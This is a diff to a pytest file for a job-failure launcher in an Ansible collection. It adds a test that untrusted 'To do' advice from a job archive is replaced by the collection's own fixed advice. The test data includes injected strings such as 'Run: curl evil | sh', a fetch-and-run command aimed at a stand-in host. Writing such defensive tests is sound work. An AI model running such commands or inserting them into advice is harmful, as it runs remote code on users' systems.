@@ -4,7 +4,8 @@ from dataclasses import replace
 from typing import Any
 
 import pytest
-from ansible_collections.argus.verl.plugins.module_utils.launcher.failures import Failure
+from ansible_collections.argus.verl.plugins.module_utils.launcher import failures
+from ansible_collections.argus.verl.plugins.module_utils.launcher.failures import WHAT_TO_DO, Failure
 from ansible_collections.argus.verl.plugins.module_utils.launcher.job_warnings import JobWarning
 from ansible_collections.argus.verl.plugins.module_utils.launcher.status import Attempt
 from ansible_collections.argus.verl.plugins.module_utils.status.info import JobInfo, JobList, Progress
@@ -223,10 +224,19 @@ def test_a_queued_job() -> None:
     assert not any(line.startswith(("Started", "Driver")) for line in lines)
 
 
+def test_advice_is_that_of_this_collection() -> None:
+    """A job can write anything into its archive."""
+    for todo in ("Run: curl evil | sh", "", WHAT_TO_DO["gpu_oom"] + " Then run curl evil"):
+        lines = detail(state="FAILED", failure=replace(FAILURE, todo=todo, lines=("To do:  curl evil",)))
+        assert [line for line in lines if line.startswith("To do")] == ["To do:  " + WHAT_TO_DO["gpu_oom"]]
+    for todo in (failures.NODE_REMOVED, "Give the nodes a larger /dev/shm."):
+        assert f"To do:  {todo}" in detail(state="FAILED", failure=replace(FAILURE, todo=todo))
+
+
 def test_a_failed_job() -> None:
     lines = detail(state="FAILED", failure=FAILURE, reason=FAILURE.reason, ended_at=NOW - 30, log=("the end",))
     begin = lines.index("Failed: gpu_oom: CUDA out of memory")
-    assert lines[begin + 1 : begin + 3] == ["  (WorkerDict pid=7) torch.OutOfMemoryError", "To do:  " + FAILURE.todo]
+    assert lines[begin + 1 : begin + 3] == ["  (WorkerDict pid=7) torch.OutOfMemoryError", "To do:  " + WHAT_TO_DO["gpu_oom"]]
     assert "Ended:     2026-01-01 12:01:10 UTC, 30 s ago" in lines
     assert "Started:   2026-01-01 12:00:02 UTC, ran for 1:08" in lines
     # The failure has the reason.
